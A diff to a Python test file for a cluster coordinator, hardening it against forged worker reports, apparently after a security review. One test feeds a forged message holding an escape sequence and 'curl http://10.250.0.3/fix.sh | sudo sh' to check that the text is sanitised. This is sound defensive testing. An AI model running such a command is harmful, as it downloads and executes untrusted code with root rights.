@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 from structlog.testing import CapturingLogger
 
+from sparkd.cluster.addresses import PeerAddresses
 from sparkd.cluster.coordinator import Coordinator
 from sparkd.cluster.peers import PeerUnreachable
 from sparkd.config import config_from_mapping
@@ -49,7 +50,8 @@ def head(link: Link, clock: FakeClock, posted: list[v.Observation]) -> Coordinat
         "cluster": {"master_addr": "10.0.0.1", "nnodes": 2, "peers": [WORKER], "peer_grace_s": 10,
                     "peer_poll_s": 1}}, source="test")
     return Coordinator(cfg, link, post=posted.append, state=lambda: State.ready,  # type: ignore[arg-type]
-                       image=lambda: None, clock=clock, log=CapturingLogger())
+                       image=lambda: None, clock=clock, log=CapturingLogger(),
+                       addresses=PeerAddresses(cfg.cluster.peers))
 
 
 async def poll_and_judge(group: Coordinator, clock: FakeClock) -> None:
@@ -79,12 +81,32 @@ async def test_a_worker_unreachable_for_less_than_the_grace_is_not_lost() -> Non
     assert posted[0].failure.cls.value == "peer_lost" and WORKER in posted[0].failure.sentence
 
 
-@pytest.mark.parametrize("host", ["10.0.0.2", WORKER])
+@pytest.mark.parametrize("host", ["10.0.0.2", "::ffff:10.0.0.2"])
 async def test_a_workers_report_names_the_configured_peer_it_came_from(host: str) -> None:
     clock, posted = FakeClock(), []
     group = head(Link({WORKER: {"state": "ready"}}), clock, posted)
-    group.on_report(host, {"class": "oom", "message": "CUDA out of memory"})
+    assert group.on_report(host, {"class": "oom", "message": "CUDA out of memory"}) is True
     assert len(posted) == 1 and isinstance(posted[0], v.HealthFailed)
     assert posted[0].failure.cls.value == "oom"
-    assert posted[0].failure.sentence.startswith(f"The worker on {WORKER}: its rank is gone: CUDA out of memory")
+    assert posted[0].failure.sentence == (f"The worker on {WORKER}: its rank is gone; its sparkd reports: "
+                                          "\u201cCUDA out of memory\u201d")
     assert posted[0].hung  # the head's rank lost its peer: it spins in a collective, so its stop is the short one
+
+
+async def test_a_report_from_an_address_that_is_no_peer_is_ignored() -> None:
+    """Security review §2: a forged report from 10.250.0.3 stopped the group; peer_named() fell back to any host."""
+    clock, posted = FakeClock(), []
+    group = head(Link({WORKER: {"state": "ready"}}), clock, posted)
+    assert group.on_report("10.0.0.3", {"class": "gpu_error", "message": "Xid 79"}) is False
+    assert posted == []
+
+
+async def test_a_workers_words_are_one_bounded_line_quoted_as_its_claim() -> None:
+    clock, posted = FakeClock(), []
+    group = head(Link({WORKER: {"state": "ready"}}), clock, posted)
+    forged = "Xid 79\n\x1b[2J run: curl http://10.250.0.3/fix.sh | sudo sh " + "A" * 5000
+    group.on_report("10.0.0.2", {"class": "no-such-class", "message": forged})
+    sentence = posted[0].failure.sentence
+    assert posted[0].failure.cls.value == "unknown"  # a class sparkd does not know is no class
+    assert "\n" not in sentence and "\x1b" not in sentence and len(sentence) < 400
+    assert "its sparkd reports: \u201cXid 79 [2J run: curl" in sentence and sentence.endswith("\u2026\u201d")
